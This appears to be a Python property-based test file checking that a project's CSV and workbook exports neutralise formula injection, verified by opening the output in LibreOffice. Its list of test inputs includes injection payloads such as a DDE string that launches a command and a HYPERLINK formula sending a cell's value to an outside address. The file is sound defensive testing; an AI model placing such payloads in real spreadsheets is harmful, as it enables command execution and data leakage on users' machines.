"""No cell of a file becomes a formula, and none loses anything: Hypothesis against LibreOffice."""

import csv
import io
import re
from datetime import datetime
from pathlib import Path

import openpyxl
import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from ingest.reading import read_bytes
from models.rejected import REASON
from queries.exports import rejected_workbook
from queries.exports.formulas import guarded, unguarded
from queries.exports.tables import Sheet, as_csv, as_json, as_workbook, sheet_of

from .office_program import converted, needs_office

pl = pytest.importorskip("polars")

SIGNS = "=+-@＝＋－＠'"  # noqa: RUF001 - the last ones in full width are the point
HARMFUL = (
    *("=1+1", "+1", "-2", "@SUM(1)", "=cmd|'/c calc'!A1", "\t=1", "\r=1", "\n=1", " =1", "\xa0=1"),
    *("'=1", "''=1", "'", "", "a;=1+1", "a\t=1", "a\n=1", 'a";"=1', "_x003D_1+1", "＝1"),
    *('=HYPERLINK("http://example.org?"&A1,"x")', "%0A=1", "-", "--", "=", "\u200b=1", "+44 20"),
)
# What a workbook can hold: no control characters but tab and line breaks.
TEXTS = st.one_of(
    st.sampled_from(HARMFUL),
    st.text(st.sampled_from(SIGNS + ' \t\n;,"|!1Ax_'), max_size=8),
    st.text(
        st.characters(exclude_categories=("Cs", "Cc"), exclude_characters="\ufffe\uffff"),
        max_size=12,
    ),
)
AS_TEXT = ",34,76,1,,0,true"  # UTF-8, and what is in quotes stays text


def saved(sheet: Sheet) -> bytes:
    return as_workbook(sheet, datetime(2026, 7, 9))


@given(TEXTS)
@example("'=1")
@example("''")
def test_the_guard_can_be_undone(text: str) -> None:
    assert unguarded(guarded(text)) == text
    if guarded(text) != text:
        assert guarded(text) == f"'{text}"


@given(st.text())
def test_two_texts_are_never_guarded_into_one(text: str) -> None:
    assert guarded(f"'{text}") != guarded(text)


def test_what_begins_as_a_formula_is_guarded() -> None:
    for text in ("=1", "+1", "-1", "@a", " =1", "\t1", "\r1", "\n1", "\x0b=1", "＝1", "'=1"):
        assert guarded(text) == f"'{text}", text
    for text in ("", "a=1", "1-2", "O'Neil", "'quoted'", "7"):
        assert guarded(text) == text, text


@settings(deadline=None)
@given(st.lists(TEXTS, min_size=1, max_size=20))
def test_a_csv_file_gives_every_text_back(texts: list[str]) -> None:
    sheet = Sheet("Texts", ["text", "=heading"], [[text, 1.5] for text in texts])
    rows = list(csv.reader(io.StringIO(as_csv(sheet).decode("utf-8-sig"), newline="")))
    assert rows[0] == ["text", "'=heading"]
    assert [unguarded(row[0]) for row in rows[1:]] == texts
    assert {row[1] for row in rows[1:]} == {"1.5"}


@settings(deadline=None)
@given(st.lists(TEXTS, min_size=1, max_size=20))
def test_a_workbook_gives_every_text_back_as_text(texts: list[str]) -> None:
    sheet = Sheet("Texts", ["text", "=heading"], [[text, -1] for text in texts])
    table = openpyxl.load_workbook(io.BytesIO(saved(sheet)))["Table"]
    assert all(cell.data_type != "f" for row in table.iter_rows() for cell in row)
    assert (table["B1"].value, table["B2"].value) == ("=heading", -1)
    (read,) = [s for s in read_bytes("texts.xlsx", saved(sheet)) if s.name == "table"]
    # Excel's own true and false come as these words, and are read as yes and no.
    answers = {"true": "yes", "false": "no"}
    whole = [answers.get(text.strip(), text.strip()) or None for text in texts]
    got = dict(zip(read.rows, read.frame["text"], strict=True))
    assert [got.get(number) for number in range(2, len(texts) + 2)] == whole


@needs_office
@settings(max_examples=2, deadline=None, suppress_health_check=list(HealthCheck))
@given(texts=st.lists(TEXTS, min_size=100, max_size=200))
def test_libreoffice_finds_no_formula_and_every_text(
    tmp_path_factory: pytest.TempPathFactory, texts: list[str]
) -> None:
    folder = tmp_path_factory.mktemp("office")
    texts = [*HARMFUL, *texts]
    sheet = Sheet("Texts", ["text", "next"], [[text, "end"] for text in texts])
    (folder / "book.xlsx").write_bytes(saved(sheet))
    (folder / "table.csv").write_bytes(as_csv(sheet))
    book = cells(converted(folder, folder / "book.xlsx"), "Table")
    assert [as_read(row[0]) for row in book[1:]] == [as_read(text) for text in texts]
    table = cells(converted(folder, folder / "table.csv", reading=f"CSV:44{AS_TEXT}"))
    assert [unguarded(as_read(row[0])) for row in table[1:]] == [unguarded_line(t) for t in texts]
    for separators in ("59", "44/59/9"):
        reading = f"CSV:{separators},34,76,1"
        cells(converted(folder, folder / "table.csv", reading=reading))


@needs_office
def test_libreoffice_would_run_a_formula_that_is_not_guarded(tmp_path: Path) -> None:
    """The proof above could fail: the same text without its guard does become a formula."""
    (tmp_path / "raw.csv").write_text('text\n"=1+1"\n')
    with pytest.raises(AssertionError, match="formula"):
        cells(converted(tmp_path, tmp_path / "raw.csv"))


def cells(path: Path | None, name: str = "") -> list[list[str]]:
    """Every cell of the sheet, none of which may be a formula."""
    assert path is not None, "LibreOffice could not open it"
    book = openpyxl.load_workbook(path)
    sheet = book[name] if name else book.worksheets[0]
    for row in sheet.iter_rows():
        assert all(cell.data_type != "f" for cell in row), f"formula in row {row[0].row}"
    return [["" if c.value is None else str(c.value) for c in row] for row in sheet.iter_rows()]


def as_read(text: str) -> str:
    """The text with one kind of line break: which one is a cell's own affair."""
    return re.sub(r"_x([0-9A-F]{4})_", lambda m: chr(int(m[1], 16)), text).replace("\r", "\n")


def unguarded_line(text: str) -> str:
    return unguarded(as_read(guarded(text)))


def test_a_cell_too_long_for_a_workbook_is_cut_and_said() -> None:
    sheet = Sheet("Long", ["text"], [["x" * 40_000]])
    book = openpyxl.load_workbook(io.BytesIO(saved(sheet)))
    assert len(book["Table"]["A2"].value) == 32_767
    assert any("were cut" in str(row[0]) for row in book["About"].iter_rows(values_only=True))
    assert b"x" * 40_000 in as_csv(sheet) and b"x" * 40_000 in as_json(sheet)


def test_rejected_rows_hold_no_formula_not_even_as_a_heading() -> None:
    frame = pl.DataFrame({"row_number": [2], "reason": ["=no"], "=cmd": ["=1+1"], "b": ["+2"]})
    book = openpyxl.load_workbook(io.BytesIO(rejected_workbook.write({"cases": frame})))
    values = [[cell.value for cell in row] for row in book["cases"].iter_rows()]
    assert values[0][1:] == [REASON, "=cmd", "b"]
    assert values[1] == [2, "=no", "=1+1", "+2"]
    types = {cell.data_type for row in book["cases"].iter_rows() for cell in row}
    assert types == {"s", "n"}


def test_a_frame_becomes_a_table_with_its_blanks() -> None:
    frame = pl.DataFrame({"day": [datetime(2026, 7, 9).date(), None], "n": [1, None]})
    sheet = sheet_of(frame, title="T", about=(), marking=Sheet("T", (), ()).marking)
    assert sheet.rows == [["2026-07-09", 1], [None, None]]
